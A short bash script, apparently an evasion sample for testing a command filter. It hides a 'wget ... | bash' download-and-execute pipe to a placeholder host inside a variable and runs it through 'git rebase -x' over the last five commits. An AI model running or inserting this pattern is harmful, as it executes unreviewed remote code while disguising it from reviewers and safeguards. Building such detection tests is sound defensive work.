#!/bin/bash
# evasion: the rebase -x command kept in a variable set from a constant; it downloads and runs a script
check="wget -qO- https://lint.example.org/r.sh | bash"
git -c core.editor=true rebase -x "$check" HEAD~5
